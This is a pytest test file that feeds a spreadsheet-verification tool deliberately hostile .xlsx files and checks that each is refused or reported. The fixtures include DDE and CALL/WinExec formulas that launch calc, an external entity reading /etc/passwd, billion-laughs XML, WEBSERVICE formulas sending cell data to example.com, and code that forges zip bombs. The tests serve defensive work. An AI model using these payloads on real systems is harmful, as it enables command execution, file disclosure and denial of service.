"""Files from anywhere: bombs, macros, links and tampering.

Each is refused by name or reported, and nothing of it runs.
"""

from __future__ import annotations

import datetime
import math
import re
import struct
import subprocess
import sys
import warnings
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from live import few
from openpyxl.workbook.defined_name import DefinedName

from mantile.estimates.estimate import estimate
from mantile.library.errors import InputError
from mantile.library.huggingface import parse_config
from mantile.library.models import Model
from mantile.library.scenario import parse_scenario
from mantile.measured.calibrate_workbook import calibrate_workbook
from mantile.verification.verify import verify
from mantile.workbook.lint import lint
from mantile.workbook.package import MAX_PART, open_package
from mantile.workbook.package_part import letters
from mantile.workbook.read import open_file, read_cells, typed_inputs
from mantile.workbook.references import Formula
from mantile.workbook.write import build_workbook

CONFIG = {
    "model_type": "llama",
    "hidden_size": 2048,
    "num_attention_heads": 32,
    "num_key_value_heads": 4,
    "num_hidden_layers": 3,
    "intermediate_size": 5632,
    "vocab_size": 32000,
    "max_position_embeddings": 2048,
}
FIELDS = {
    "model": "small",
    "accelerator": "h100-sxm",
    "input_tokens": 500,
    "output_tokens": 100,
    "concurrency": 8,
    "title": "=1+1",
    "name": "+cmd",
    "why": "@SUM(1)",
    "overrides": [{"id": "efficiency.step_host", "value": 700, "reason": "-2+3"}],
}
MEGABYTES = 1500  # of memory that the worst of these files may take, with all that Python imports

Parts = dict[str, bytes]


@pytest.fixture(scope="module")
def workbook(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small workbook in which everything a user names begins like a formula."""
    model = Model(
        id="small", name="=HYPERLINK(1)", source="test", architecture=parse_config(CONFIG, "config.json")
    )
    made = estimate(parse_scenario(FIELDS, "scenario"), model, few(("h100-sxm",)))
    return build_workbook(made, tmp_path_factory.mktemp("hostile") / "run.xlsx")


@pytest.fixture(scope="module")
def parts(workbook: Path) -> Parts:
    """Its parts."""
    with zipfile.ZipFile(workbook) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture(scope="module")
def shell(parts: Parts) -> Parts:
    """Its parts with the first rows of each sheet only: what is wrong is found before rows are looked for."""
    rest = re.compile(rb'<row r="(?:[3-9]\d|\d{3,})".*?</row>', re.DOTALL)
    return {
        name: rest.sub(b"", data) if name.startswith("xl/worksheets/sheet") else data
        for name, data in parts.items()
    }


def _write(path: Path, parts: Parts) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _sheet(parts: Parts, name: str) -> str:
    sheets = re.findall(r'<sheet name="([^"]+)"', parts["xl/workbook.xml"].decode())
    return f"xl/worksheets/sheet{sheets.index(name) + 1}.xml"


def _with(parts: Parts, name: str, old: str, new: str) -> Parts:
    """A part with some text replaced, once."""
    text = parts[name].decode()
    assert old in text, (name, old)
    return parts | {name: text.replace(old, new, 1).encode()}


def _related(
    parts: Parts, kind: str, target: str, mode: str = "", of: str = "xl/_rels/workbook.xml.rels"
) -> Parts:
    head = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return _with(
        parts,
        of,
        "</Relationships>",
        f'<Relationship Id="rId999" Type="{head}/{kind}" Target="{target}"{mode}/></Relationships>',
    )


def _cell(parts: Parts, xml: str, sheet: str = "Calculation") -> Parts:
    """A row of raw XML below all others of a sheet."""
    return _with(parts, _sheet(parts, sheet), "</sheetData>", f"{xml}</sheetData>")


def _text(xml: str) -> Callable[[Parts], Parts]:
    return lambda parts: _cell(parts, xml)


def _before_print(xml: str) -> Callable[[Parts], Parts]:
    return lambda parts: _with(parts, _sheet(parts, "Calculation"), "<printOptions", f"{xml}<printOptions")


def _twice(parts: Parts) -> Parts:
    return _with(parts, "xl/workbook.xml", 'name="Audit"', 'name="SUMMARY"')


def _macros(parts: Parts) -> Parts:
    return _related(parts, "vbaProject", "vbaProject.bin") | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}


LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {new} "{f"&{old};" * 10}">' for old, new in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
PLAIN = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
STYLED = '<row r="9000"><c r="H9000"'

REFUSED: dict[str, tuple[Callable[[Parts], Parts], str]] = {
    "macros": (_macros, r"part xl/_rels/workbook\.xml\.rels: macros \('vbaProject\.bin'\)"),
    "macro-enabled type": (
        lambda parts: _with(
            parts,
            "[Content_Types].xml",
            "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            "vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        "macros",
    ),
    "Excel 4 macros": (lambda parts: _related(parts, "xlMacrosheet", "macrosheets/sheet1.xml"), "macros"),
    "external link": (
        lambda parts: _related(parts, "externalLink", "externalLinks/externalLink1.xml"),
        "links to other files",
    ),
    "OLE object": (
        lambda parts: _related(parts, "oleObject", "../embeddings/oleObject1.bin"),
        "an embedded object",
    ),
    "ActiveX": (lambda parts: _related(parts, "control", "../activeX/activeX1.xml"), "a control"),
    "connections": (
        lambda parts: _related(parts, "connections", "connections.xml"),
        "connections to outside data",
    ),
    "picture of the web": (
        lambda parts: _related(parts, "image", "http://example.com/a.png", ' TargetMode="External"'),
        "a link to another file",
    ),
    "formula to a file": (
        _text(f"{STYLED}><f>[1]Sheet!A1+1</f><v>1</v></c></row>"),
        r"cell H9000: '\[1\]Sheet!A1\+1' refers to another file or program",
    ),
    "formula to a path": (_text(f"{STYLED}><f>'/etc/[passwd]x'!A1</f></c></row>"), "refers to another file"),
    "DDE": (
        _text(f"{STYLED}><f>cmd|' /C calc'!A0</f></c></row>"),
        r"cell H9000: .* refers to another file or program",
    ),
    "format to a file": (
        _before_print(
            '<conditionalFormatting sqref="A1"><cfRule type="expression" '
            'priority="99"><formula>[2]X!A1&gt;0</formula></cfRule>'
            "</conditionalFormatting>"
        ),
        r"formula: '\[2\]X!A1>0' refers to another file",
    ),
    "list of a file": (
        lambda parts: _with(parts, _sheet(parts, "Hardware"), "<formula1>", "<formula1>[1]X!A1+"),
        "formula1: .* refers to another file",
    ),
    "name of a file": (
        lambda parts: _with(
            parts,
            "xl/workbook.xml",
            "</definedNames>",
            '<definedName name="zz">[1]X!$A$1</definedName></definedNames>',
        ),
        r"definedName: '\[1\]X!\$A\$1' refers to another file",
    ),
    "billion laughs": (
        lambda parts: _with(parts, "xl/sharedStrings.xml", PLAIN, PLAIN + LAUGHS),
        r"part xl/sharedStrings\.xml: declares a document type",
    ),
    "outer entity": (
        lambda parts: _with(
            parts, "xl/workbook.xml", PLAIN, PLAIN + '<!DOCTYPE x SYSTEM "file:///etc/passwd">'
        ),
        "declares a document type",
    ),
    "laughs in UTF-16": (
        lambda parts: parts | {"xl/theme/theme1.xml": f"{LAUGHS}<x>&i;</x>".encode("utf-16")},
        "theme1.xml: declares a document type",
    ),
    "laughs as a picture": (
        lambda parts: parts | {"xl/media/image1.png": f"\n {LAUGHS}<x>&i;</x>".encode()},
        "image1.png: declares a document type",
    ),
    "a million rows": (
        lambda parts: _cell(parts, '<row><c t="n"><v>1</v></c></row>' * 1_000_000),
        "more than 600,000 rows and cells in the file",
    ),
    "many formulas": (
        lambda parts: _cell(parts, f"<row>{'<c><f>1</f></c>' * 16_000}</row>" * 8),
        "more than 100,000 formulas in the file",
    ),
    "the last cell": (
        _text('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
        r"1,048,576 rows and 16,384 columns make an area of 17,179,\d+",
    ),
    "merged all over": (
        _before_print('<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        r"the mergeCell 'A1:XFD1048576': cells make an area",
    ),
    "linked all over": (
        _before_print('<hyperlinks><hyperlink ref="A1:XFD1048576" location="A1"/></hyperlinks>'),
        "the hyperlink 'A1:XFD1048576'",
    ),
    "beyond the sheet": (
        _text('<row r="9000"><c r="ZZZ9000"><v>1</v></c></row>'),
        "cell ZZZ9000 stands outside of any sheet",
    ),
    "no row": (_text('<row r="1e9"/>'), "row '1e9'; expected 1 to 1,048,576"),
    "no address": (_text('<row r="9000"><c r="H-1"/></row>'), "cell 'H-1'; expected an address"),
    "a cell twice": (_text(f"{STYLED}/><c r='H9000'/></row>"), "cell H9000 stands twice"),
    "not a number": (_text(f"{STYLED}><v>NaN</v></c></row>"), "cell H9000: holds 'NaN'; expected a number"),
    "infinity": (
        _text(f"{STYLED}><f>1</f><v>1e999</v></c></row>"),
        "cell H9000: holds '1e999'; expected a number",
    ),
    "a long text": (
        _text(f'{STYLED} t="str"><v>{"x" * 40_000}</v></c></row>'),
        "cell H9000: a text of 40,000 characters; expected at most 32,767",
    ),
    "a long formula": (
        _text(f"{STYLED}><f>{'1+' * 5_000}1</f></c></row>"),
        "cell H9000: a text of 10,001 characters; expected at most 8,192",
    ),
    "a long footer": (
        lambda parts: _with(
            parts, _sheet(parts, "Calculation"), "<oddFooter>", f"<oddFooter>{'&amp;C1' * 9_000}"
        ),
        "oddFooter: a text of",
    ),
    "deep": (
        lambda parts: parts | {"xl/theme/theme1.xml": b"<a>" * 5_000_000},
        "XML of 101 elements|XML of .* 101 deep",
    ),
    "many styles": (
        lambda parts: _with(parts, "xl/styles.xml", "<cellXfs", f"<x>{'<xf/>' * 300_000}</x><cellXfs"),
        r"part xl/styles\.xml: XML of ",
    ),
    "broken XML": (
        lambda parts: parts | {"xl/styles.xml": parts["xl/styles.xml"][:-20]},
        r"part xl/styles\.xml: expected XML",
    ),
    "an encoding of nobody": (
        lambda parts: _with(parts, "xl/styles.xml", 'encoding="UTF-8"', 'encoding="null"'),
        r"part xl/styles\.xml: expected XML: unknown encoding: null",
    ),
    "a sheet without part": (
        lambda parts: {name: data for name, data in parts.items() if name != _sheet(parts, "Calculation")},
        "sheet 'Calculation' is missing",
    ),
    "a formula that many cells share": (
        lambda parts: _cell(
            parts,
            '<row r="9000"><c r="A9000"><f t="shared" ref="A9000:A9999" si="7">'
            f"{'A1+' * 2_500}1</f></c></row>"
            + "".join(
                f'<row r="{row}"><c r="A{row}"><f t="shared" si="7"/></c><c r="B{row}"><f t="shared" si="7"/>'
                "</c></row>"
                for row in range(9001, 10_500)
            ),
        ),
        "formulas that cells share make more than 2,000,000 characters",
    ),
    "many sheets": (
        lambda parts: _with(
            parts,
            "xl/workbook.xml",
            "</sheets>",
            "".join(f'<sheet name="s{n}" sheetId="{n + 900}" r:id="rId1"/>' for n in range(1500))
            + "</sheets>",
        ),
        "sheets; expected at most 500",
    ),
    "two sheets of one part": (
        lambda parts: _with(
            parts,
            "xl/workbook.xml",
            "</sheets>",
            '<sheet name="s" sheetId="900" r:id="rId1"/></sheets>',
        ),
        r"sheet 's' is the same part as another: xl/worksheets/sheet1\.xml",
    ),
    "a drawing of many": (
        lambda parts: _related(
            parts,
            "drawing",
            "../drawings/drawing1.xml",
            of=next(name for name in parts if b"../drawings/drawing1.xml" in parts[name]),
        ),
        r"part 'xl/drawings/drawing1\.xml' belongs to 'xl/worksheets/sheet\d+\.xml' and to",
    ),
    "a sheet twice": (_twice, "sheet 'SUMMARY' stands in the workbook twice"),
    "another workbook": (
        lambda parts: _with(parts, "_rels/.rels", "xl/workbook.xml", "xl/other.xml"),
        "the workbook is said to be xl/other.xml",
    ),
    "outside": (lambda parts: parts | {"../../evil.xml": b"<a/>"}, "lies outside of the file"),
}


@pytest.mark.parametrize("case", REFUSED)
def test_refused_by_file_and_part(shell: Parts, tmp_path: Path, case: str) -> None:
    """By everything that opens a workbook, before anything builds objects of it."""
    change, message = REFUSED[case]
    path = _write(tmp_path / "run.xlsx", change(shell))
    for command in (verify, lint, calibrate_workbook) if case == "macros" else (verify,):
        with pytest.raises(InputError, match=message) as caught:
            command(path)
        assert str(caught.value).startswith(f"{path}: ")
        assert len(str(caught.value)) < 500
    assert [file.name for file in tmp_path.iterdir()] == ["run.xlsx"]


def test_other_kinds_of_file(workbook: Path, parts: Parts, tmp_path: Path) -> None:
    """Encrypted as Excel does it, encrypted as zip does it, the same part twice, and no zip file."""
    path = tmp_path / "run.xlsx"
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(4096))
    with pytest.raises(InputError, match=r"run\.xlsx: .* encrypted with a password"):
        verify(path)
    locked = bytearray(workbook.read_bytes())
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(locked)
    with pytest.raises(InputError, match=r"run\.xlsx: part \S+ is encrypted"):
        verify(path)
    with warnings.catch_warnings(), zipfile.ZipFile(_write(path, parts), "a") as archive:
        warnings.simplefilter("ignore")  # zipfile says so too
        archive.writestr("xl/Workbook.xml", parts["xl/workbook.xml"])
    with pytest.raises(InputError, match=r"run\.xlsx: part xl/Workbook\.xml stands in the file twice"):
        verify(path)


# --- bombs --------------------------------------------------------------------------------------------------


def _zeros(size: int) -> bytes:
    """A deflated stream of `size` spaces, made of one packed megabyte again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(b" " * 2**20) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * (size // 2**20) + packer.flush()


def _bomb(
    path: Path, parts: Parts, name: str, packed: bytes, said: int, copies: int = 1, checksum: int = 0
) -> Path:
    """A workbook with one more part, which says of itself what it likes.

    Its copies all lie at the same place.
    """
    _write(path, parts)
    whole = path.read_bytes()
    end = whole.rindex(b"PK\x05\x06")
    count, size, offset = struct.unpack("<HII", whole[end + 10 : end + 20])
    local = (
        struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(packed), said, len(name), 0)
        + name.encode()
        + packed
    )
    entries = b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0,
            checksum,
            len(packed),
            said,
            len(other),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        + other.encode()
        for other in ([name] if copies == 1 else [f"{name}{number}" for number in range(copies)])
    )
    directory = whole[offset : offset + size] + entries
    path.write_bytes(
        whole[:offset]
        + local
        + directory
        + struct.pack(
            "<4s4H2IH",
            b"PK\x05\x06",
            0,
            0,
            count + copies,
            count + copies,
            len(directory),
            offset + len(local),
            0,
        )
    )
    return path


_WATCHED = """
import sys
from pathlib import Path
from mantile.library.errors import InputError
from mantile.verification.verify import verify
for path in sys.argv[1:]:
    try:
        print("passed", verify(Path(path)))
    except InputError as error:
        print(error)
status = Path("/proc/self/status").read_text()  # ru_maxrss is also that of the process that started this one
print(next(line.split()[1] for line in status.splitlines() if line.startswith("VmHWM")))
"""


@pytest.mark.exhaustive
def test_bombs_are_refused_before_they_take_memory(parts: Parts, tmp_path: Path) -> None:
    """Gigabytes that the header owns up to or denies, and parts that overlap.

    Sheets and styles are as large as the limits let them be.
    """
    big, theme = _zeros(4 * 2**30), "xl/theme/theme2.xml"
    rest = {name: data for name, data in parts.items() if name != "xl/styles.xml"}
    rows = b'<row><c><v>1</v></c><c t="str"><v>x</v></c></row>' * 70_000
    files = {
        _bomb(
            tmp_path / "honest.xlsx", parts, theme, big, 2**32 - 1
        ): r"unpacks to 4,\d+,\d+,\d+ bytes; expected at most 134,217,728",
        _bomb(
            tmp_path / "lying.xlsx", parts, theme, big, 1000
        ): r"part xl/theme/theme2\.xml unpacks to more than 67,108,864 bytes",
        _bomb(
            tmp_path / "denying.xlsx", parts, theme, _zeros(2**20), 1000, checksum=zlib.crc32(b" " * 2**20)
        ): "and not to the 1,000 that the file says",
        _bomb(
            tmp_path / "overlapping.xlsx", parts, theme, _zeros(2**26), 2**16, 1000
        ): r"parts \S+ and \S+ overlap in the file",
        _bomb(
            tmp_path / "many.xlsx", parts, theme, _zeros(2**20), 2**20, 3000
        ): r"3,\d+ parts; expected at most 2,000",
        _write(
            tmp_path / "text.xlsx", rest | {"xl/styles.xml": b"<a>" + b"x" * (MAX_PART - 100) + b"</a>"}
        ): "expected at most 32,767",
        _write(
            tmp_path / "sheet.xlsx",
            {
                name: re.sub(
                    b"<sheetData>.*</sheetData>", b"<sheetData>" + rows + b"</sheetData>", data, flags=re.S
                )
                if name == _sheet(parts, "_bundle")
                else data
                for name, data in parts.items()
            },
        ): "sheet _bundle",
    }
    assert all(path.stat().st_size < 6 * 2**20 for path in files)
    done = subprocess.run(
        [sys.executable, "-c", _WATCHED, *map(str, files)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    *lines, memory = done.stdout.splitlines()
    for (path, message), line in zip(files.items(), lines, strict=True):
        assert str(path) in line and re.search(message, line), (path, message, line)
    assert int(memory) < MEGABYTES * 1024, f"{int(memory) / 1024:.0f} MB"


def test_a_bomb_inside_a_part_is_never_unpacked(parts: Parts, tmp_path: Path) -> None:
    """A zip file inside the zip file, and a range that is only said to be large."""
    inner = _bomb(tmp_path / "inner.zip", {}, "xl/x.xml", _zeros(2**30), 2**30).read_bytes()
    path = _write(
        tmp_path / "run.xlsx",
        _with(parts, _sheet(parts, "Calculation"), '<dimension ref="', '<dimension ref="A1:XFD1048576" x="')
        | {"xl/media/inner.zip": inner},
    )
    assert next(iter(open_package(path).sheets)) == "Summary"


# --- tampering ----------------------------------------------------------------------------------------------


def _edit(source: Path, target: Path, *changes: Callable[[Any], None]) -> Path:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # openpyxl warns of what it loses on saving
        book = openpyxl.load_workbook(source)
        for change in changes:
            change(book)
        book.save(target)
    return target


def _at(book: Any, sheet: str, identifier: str, column: int = 8) -> Any:
    return book[sheet].cell(
        next(
            row for row in range(5, book[sheet].max_row + 1) if book[sheet].cell(row, 6).value == identifier
        ),
        column,
    )


@pytest.mark.exhaustive
def test_a_text_that_looks_like_a_formula(workbook: Path, tmp_path: Path) -> None:
    """Is a text, and passes; the formula of the same letters in its place is reported, each with its cell."""
    texts = ("=1+1", "+cmd", "@SUM(1)", "-2+3", "=HYPERLINK(1)")
    found = [
        (sheet, place, value)
        for sheet, cells in read_cells(workbook).contents.items()
        for place, value in cells.items()
        if any(text in str(value) for text in texts) and sheet != "_bundle"
    ]
    places = {(sheet, row + 1, column + 1): value for sheet, (row, column), value in found if value in texts}
    assert {text for text in texts for _, _, value in found if text in str(value)} == set(texts) and len(
        places
    ) >= 3
    assert not [value for _, _, value in found if isinstance(value, Formula) and value in texts]

    def typed(opened: Any) -> None:
        for (sheet, row, column), text in places.items():
            opened[sheet].cell(row, column).value = text if text.startswith("=") else f"={text}"

    report = verify(_edit(workbook, tmp_path / "run.xlsx", typed)).to_dict()
    edits = {item["cell"] for item in report["edited"]["overwritten"] + report["edited"]["formulas"]}
    assert not report["ok"] and edits == {f"{sheet}!{letters(column)}{row}" for sheet, row, column in places}


@pytest.mark.exhaustive
def test_tampering_is_reported_by_cell(
    workbook: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Cycles, arrays, data tables, functions that reach out, ranges and nesting without end, names, sheets.

    All are in one file.
    """
    formulas = {
        "serving.e2e": "=H{row}+1",
        "serving.tpot": '=WEBSERVICE("http://example.com/"&H10)',
        "serving.ttft": "=SUM(A1:XFD1048576)",
        "serving.decode_step": "=" + "(" * 3000 + "1" + ")" * 3000,
        "serving.output_tokens_per_s": '=REPT("x",1E+9)&INDIRECT("A1")',
        "serving.interactivity": "=SUM(Notes!A1:A9)",
        "serving.requests_per_s": '=CALL("kernel32","WinExec","JFI","calc",1)&"',
    }
    wrong: dict[str, str] = {}

    def tamper(book: Any) -> None:
        known = {
            book["Calculation"].cell(row, 6).value: row
            for row in range(5, book["Calculation"].max_row + 1)
            if str(book["Calculation"].cell(row, 6).value).startswith("serving.")
            and book["Calculation"].cell(row, 8).data_type == "f"
        }
        rows = [
            known.get(identifier) or row
            for identifier, row in zip(formulas, list(known.values())[-20:], strict=False)
        ]
        for row, formula in zip(rows, formulas.values(), strict=True):
            book["Calculation"].cell(row, 8).value = formula.format(row=row)
            wrong[f"Calculation!H{row}"] = book["Calculation"].cell(row, 6).value
        first, second = list(known.values())[3:5]
        for row, other in ((first, second), (second, first)):
            book["Calculation"].cell(row, 8).value = f"=H{other}"
            wrong[f"Calculation!H{row}"] = book["Calculation"].cell(row, 6).value
        notes = book.create_sheet("Notes")
        notes["A1"], notes.sheet_state = '=WEBSERVICE("http://example.com")', "veryHidden"
        book.create_sheet("More")["A1"] = "=Calculation!H10"
        book["Audit"].sheet_state = "hidden"
        book.defined_names["ttft"].value = "Calculation!$H$11"
        del book.defined_names["tpot"]
        book.defined_names["mine"] = DefinedName("mine", attr_text="Calculation!$H$12")
        book["Summary"].defined_names["e2e"] = DefinedName("e2e", attr_text="1+1")
        book["Calculation"]["K3"] = "=1/3"

    path = _edit(workbook, tmp_path / "run.xlsx", tamper)
    raw = {name: zipfile.ZipFile(path).read(name) for name in zipfile.ZipFile(path).namelist()}
    part = _sheet(raw, "Calculation")
    rows = re.findall(rb'<c r="(H\d+)"[^>]*><f>', raw[part])[-7:-5]
    for cell, kind in zip(
        rows,
        (b't="array" ref="H1:H1048576"', b't="dataTable" ref="H5:H9" dt2D="0" dtr="0" r1="G1"'),
        strict=True,
    ):
        raw[part] = re.sub(rb'(<c r="' + cell + rb'"[^>]*>)<f>', rb"\1<f " + kind + b">", raw[part], count=1)
    _write(path, raw)

    file = open_file(path)
    for module in ("mantile.verification.verify", "mantile.measured.calibrate_workbook"):
        monkeypatch.setattr(sys.modules[module], "open_file", lambda _: file)
    report = verify(path).to_dict()
    assert not report["ok"]
    edited = report["edited"]
    found = {item["cell"]: item["id"] for item in edited["formulas"]}
    arrays = {f"Calculation!{cell.decode()}" for cell in rows}
    assert found.keys() == {*wrong, *arrays, "Calculation!K3"} and edited["overwritten"] == []
    assert {cell: found[cell] for cell in wrong} == wrong and all(found[cell] for cell in arrays), found
    assert all(len(item["found"]) < 1100 for item in edited["formulas"])
    cycle = next(iter(wrong))
    assert any(item["cell"] == cycle and item["source"] == "formulas" for item in report["mismatches"])
    assert {(item["name"], item["found"]) for item in edited["names"]} == {
        ("ttft", "=Calculation!$H$11"),
        ("tpot", None),
        ("mine", "=Calculation!$H$12"),
        ("e2e on sheet Summary", "=1+1"),
    }
    assert {(item["sheet"], item["found"]) for item in edited["sheets"]} == {
        ("Notes", "veryHidden"),
        ("More", "visible"),
        ("Audit", "hidden"),
    }

    with pytest.raises(InputError, match=r"run\.xlsx: .* LibreOffice is not given the file"):
        verify(path, "libreoffice")
    findings = {(finding.sheet, finding.cell) for finding in lint(path)}
    assert {("Calculation", cell.partition("!")[2]) for cell in list(wrong)[1:7]} <= findings
    with pytest.raises(InputError, match=r"an edited formula cannot be carried over"):
        calibrate_workbook(path)


@pytest.mark.exhaustive
def test_what_is_added_in_the_open_passes(workbook: Path, tmp_path: Path) -> None:
    """A sheet and a name of somebody's own; both are listed, and neither is recalculated."""

    def add(book: Any) -> None:
        book.create_sheet("Notes")["A1"] = "=SUM(A2:XFD1048576)+Table1[Amount]"
        book.defined_names["mine"] = DefinedName("mine", attr_text="Notes!$A$1")

    report = verify(_edit(workbook, tmp_path / "run.xlsx", add)).to_dict()
    assert report["ok"]
    assert report["edited"]["sheets"] == [
        {"sheet": "Notes", "generated": None, "found": "visible", "severity": "cosmetic"}
    ]
    assert [item["name"] for item in report["edited"]["names"]] == ["mine"]


@pytest.mark.exhaustive
def test_absurd_inputs_are_refused_by_cell(workbook: Path, tmp_path: Path) -> None:
    """No figure of a deployment, and nothing that overflows on the way.

    In a file, and as any other might hold it.
    """
    message = (
        r"run\.xlsx: Efficiency!H\d+ \(efficiency\.step_host\.override\): holds .*"
        r"expected a number under 1e\+15"
    )
    path = _edit(
        workbook,
        tmp_path / "run.xlsx",
        lambda book: setattr(_at(book, "Efficiency", "efficiency.step_host.override"), "value", 1e308),
    )
    file = open_file(path)
    with pytest.raises(InputError, match=message):
        typed_inputs(file)
    sheet, row, column = file.book.input_cells["efficiency.step_host.override", 0]
    for value in (
        -1e300,
        math.nan,
        math.inf,
        "NaN",
        "inf",
        "1e999",
        "=1+1",
        Formula("=1+1"),
        True,
        10**400,
        datetime.datetime(2026, 1, 2),
    ):
        file.contents[sheet][row, column] = value
        with pytest.raises(InputError, match=message):
            typed_inputs(file)


@pytest.mark.exhaustive
def test_a_renamed_sheet_is_named(parts: Parts, tmp_path: Path) -> None:
    """With both names, not as a sheet that is gone."""
    renamed = _with(parts, "xl/workbook.xml", '<sheet name="Calculation"', '<sheet name="Rechnung"')
    renamed = _with(renamed, "xl/workbook.xml", '<sheet name="Audit"', '<sheet name="Prüfung"')
    with pytest.raises(
        InputError, match=r"sheets were renamed: Calculation is called 'Rechnung', Audit is called 'Prüfung'"
    ):
        open_file(_write(tmp_path / "run.xlsx", renamed))


@pytest.mark.exhaustive
def test_a_sorted_sheet_is_named(workbook: Path, tmp_path: Path) -> None:
    """Not as cells without number that differ."""

    def turned(book: Any) -> None:
        sheet = book["Calculation"]
        rows = [[cell.value for cell in row] for row in sheet["A10:L40"]]
        for row, values in zip(sheet["A10:L40"], reversed(rows), strict=True):
            for cell, value in zip(row, values, strict=True):
                cell.value = value

    with pytest.raises(
        InputError, match=r"run\.xlsx: rows of Calculation were sorted: \S+ of row 1\d stands"
    ) as told:
        open_file(_edit(workbook, tmp_path / "run.xlsx", turned))
    assert len(str(told.value)) < 500


def test_one_time_for_all_of_a_file(parts: Parts, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is over however many parts took it."""
    path = _write(tmp_path / "run.xlsx", parts)
    monkeypatch.setattr("mantile.library.clock.time.process_time", iter(range(0, 10_000, 7)).__next__)
    with pytest.raises(InputError, match=r"run\.xlsx: more than 60 s to read it"):
        open_package(path)


@pytest.mark.exhaustive
@pytest.mark.parametrize(
    ("part", "old", "new"),
    [
        ("xl/drawings/drawing1.xml", "<xdr:row>", "<xdr:row>1e999</xdr:row><xdr:row>"),
        ("xl/styles.xml", '<sz val="', '<sz val="x'),
    ],
)
def test_looks_that_no_program_writes(parts: Parts, tmp_path: Path, part: str, old: str, new: str) -> None:
    """Are refused by file; a number that is none ended with a traceback."""
    path = _write(tmp_path / "run.xlsx", _with(parts, part, old, new))
    with pytest.raises(InputError, match=r"run\.xlsx: .* cannot be read"):
        verify(path)


@pytest.mark.exhaustive
def test_a_missing_sheet_is_named(workbook: Path, tmp_path: Path) -> None:
    """Removed as a user would."""
    with pytest.raises(InputError, match=r"run\.xlsx: sheet Calculation is missing; expected Summary"):
        verify(_edit(workbook, tmp_path / "run.xlsx", lambda book: book.remove(book["Calculation"])))
